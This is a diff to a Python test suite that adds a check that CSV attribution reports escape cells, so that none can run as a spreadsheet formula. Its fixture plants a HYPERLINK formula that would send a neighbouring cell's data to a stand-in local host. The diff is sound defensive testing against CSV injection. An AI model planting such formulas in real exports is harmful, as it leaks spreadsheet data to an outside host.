@@ -14,8 +14,10 @@ from starlette.testclient import TestClient
 
 from domain.evaluator import evaluate, verdicts_as_json
 from domain.settings import Settings
+from domain.validation import Draft
 from projections.attribution import ReportFilter, attribution_report, monthly_counts
 from projections.runtime import Runtime
+from projections.writer import AppendCommand
 from scripts.cli import main as casetrail
 from scripts.scenarios import check_expectations, load_scenario, read_scenarios
 from tests.conftest import event, opened
@@ -172,6 +174,43 @@ def test_report_as_csv(loaded: Runtime, client: TestClient) -> None:
     assert any(r["case_id"] == "d13-sale" and r["performer"] == "agent-e3" for r in breach_rows)
 
 
+LEAK = '=HYPERLINK("http://127.0.0.1:1/?leak="&A2,"open")'
+
+
+@pytest.fixture
+def formula_performer(runtime: Runtime) -> Runtime:
+    """D-02 with its agent's id replaced by a formula, as a ledger may hold from before ids
+    had a rule: appended straight to the writer, past the API's validation."""
+    d02 = next(s for s in SCENARIOS if s.id == "D-02")
+    events = json.loads(json.dumps(d02.cases["d02-sale"]).replace('"agent-a1"', json.dumps(LEAK)))
+    for body in events:
+        draft = Draft(body["type"], 1, body["occurred_at"], body["actor"], body["payload"], [])
+        runtime.append(AppendCommand("d02-leak", [draft], recorded_by="legacy-import"))
+    runtime.settle(timeout=30)
+    return runtime
+
+
+def test_no_csv_report_cell_can_run_as_a_formula(
+    settings: Settings,
+    formula_performer: Runtime,
+    client: TestClient,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    use_settings(monkeypatch, settings)
+    breaches = client.get("/v1/reports/attribution?format=csv&part=breaches").text
+    counts = client.get("/v1/reports/attribution?format=csv").text
+    assert casetrail(["report", "--format", "csv", "--part", "breaches"]) == 0
+    printed = capsys.readouterr().out
+
+    assert "'" + LEAK in {row["performer"] for row in csv.DictReader(io.StringIO(breaches))}
+    assert "'" + LEAK in {row["agent"] for row in csv.DictReader(io.StringIO(counts))}
+    assert printed == breaches
+    for text in (breaches, counts):
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+
+
 def test_an_agency_key_reports_on_its_own_agency_only(loaded: Runtime, client: TestClient) -> None:
     token, _ = loaded.api_keys.create("agent", agency="agency-k")
     headers = {"Authorization": f"Bearer {token}"}
@@ -262,7 +301,7 @@ def test_the_monthly_counts_always_equal_a_fresh_count_of_the_verdicts(
     loaded: Runtime, client: TestClient
 ) -> None:
     """The desk's reports read running monthly tallies; they must never drift from the
-    verdicts, through appends, deadline re-evaluation and a view built before they existed."""
+    verdicts, through appends and deadline re-evaluation."""
 
     def fresh() -> list[dict[str, Any]]:
         return attribution_report(loaded.ledger, loaded.policy, ReportFilter())["agencies"]
@@ -287,9 +326,4 @@ def test_the_monthly_counts_always_equal_a_fresh_count_of_the_verdicts(
     assert appended.status_code == 201, appended.text
     loaded.settle(timeout=10)
     loaded.attribution.after_step(0)
-    assert monthly_counts(loaded.ledger) == fresh()
-
-    with loaded.ledger.db.transaction() as cursor:
-        cursor.execute("DELETE FROM verdict_counts")
-    loaded.attribution._count_existing_verdicts()
     assert monthly_counts(loaded.ledger) == fresh()
